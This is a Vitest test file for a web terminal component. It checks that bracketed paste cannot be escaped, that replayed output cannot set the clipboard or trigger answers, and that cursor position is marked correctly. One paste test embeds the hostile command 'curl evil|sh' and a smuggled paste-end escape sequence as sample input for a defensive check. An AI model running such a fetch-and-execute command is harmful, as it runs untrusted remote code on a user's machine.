import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { TerminalView } from "./terminal.ts";

const bytes = new TextEncoder();
let typed: string;
let copied: string[];
let view: TerminalView;

beforeEach(() => {
  typed = "";
  copied = [];
  // What measures letters has no canvas here, and no need of one.
  vi.spyOn(HTMLCanvasElement.prototype, "getContext").mockReturnValue(null);
  view = new TerminalView({
    input: (data) => {
      typed += new TextDecoder().decode(data);
    },
    resize: () => {},
    bell: () => {},
    key: () => {},
    copied: () => {},
    paste: () => {},
    clipboard: (text) => copied.push(text),
    isSplit: () => false,
  });
  view.show(document.body);
});
afterEach(() => {
  view.dispose();
  vi.restoreAllMocks();
});

const print = (text: string) => new Promise<void>((parsed) => view.write(bytes.encode(text), parsed));

describe("a paste in a terminal", () => {
  it("stands in brackets that nothing in it ends", async () => {
    await print("\x1b[?2004h");
    view.paste("hi\x1b[20\x1b[201~1~\ncurl evil|sh\n");
    expect(typed).toBe("\x1b[200~hi\x1b[20␛[201~1~\rcurl evil|sh\r\x1b[201~");
  });
});

describe("old output that comes once more", () => {
  beforeEach(() => {
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout", "Date"] });
  });
  afterEach(() => {
    vi.useRealTimers();
  });

  /** As output comes, and is parsed by and by. */
  async function printed(text: string): Promise<void> {
    const parsed = print(text);
    await vi.advanceTimersByTimeAsync(1);
    await parsed;
  }
  const ask = (what: string) => printed(`\x1b]52;c;${btoa(what)}\x07\x1b[c`);

  it("sets no clipboard and answers nothing; what is printed after it does", async () => {
    view.replay(1_000);
    await ask("old");
    await vi.advanceTimersByTimeAsync(900);
    await ask("late");
    expect([copied, typed]).toEqual([[], ""]);
    await vi.advanceTimersByTimeAsync(400);
    await ask("new");
    expect([copied, typed]).toEqual([["new"], "\x1b[?1;2c"]);
  });

  it("tells nobody whether it has the keyboard, and types what its reader types; what asks after it is told", async () => {
    view.replay(1_000);
    await printed("\x1b[?1004h");
    view.type("ls");
    expect(typed).toBe("ls");
    await vi.advanceTimersByTimeAsync(1_400);
    await printed("\x1b[?1004h");
    expect(typed).toBe("ls\x1b[O");
  });

  it("may take longer than that on a slow connection", async () => {
    view.replay(1_000);
    for (let at = 0; at < 3_000; at += 250) {
      await ask("old");
      await vi.advanceTimersByTimeAsync(250);
    }
    expect([copied, typed]).toEqual([[], ""]);
    await vi.advanceTimersByTimeAsync(300);
    await ask("new");
    expect(copied).toEqual(["new"]);
  });

  it("is not what a program prints that never stops", async () => {
    view.replay(1_000);
    for (let at = 0; at < 6_000; at += 100) {
      await ask(`${at}`);
      await vi.advanceTimersByTimeAsync(100);
    }
    expect(Number(copied[0])).toBeGreaterThanOrEqual(5_000);
    expect(Number(copied[0])).toBeLessThan(5_500);
  });
});

describe("a line of the page's own", () => {
  it("is grey by the palette, which keeps its contrast, and not dim", async () => {
    await new Promise<void>((parsed) => view.note("same shell resumed", parsed));
    expect(view.picture(10_000)?.screen).toContain("\x1b[90m── same shell resumed ──");
  });
});

it.each([
  ["in its upper half", "one\r\n$ ", true],
  ["in its lower half", "\r\n".repeat(20), false],
  ["in a full-screen program", "\x1b[?1049h\x1b[H", false],
  ["after such a program", "$ \x1b[?1049h\x1b[24H\x1b[?1049l", true],
])("marks where one types %s", async (_, text, high) => {
  await print(text);
  expect(document.body.lastElementChild?.hasAttribute("data-cursor-high")).toBe(high);
});
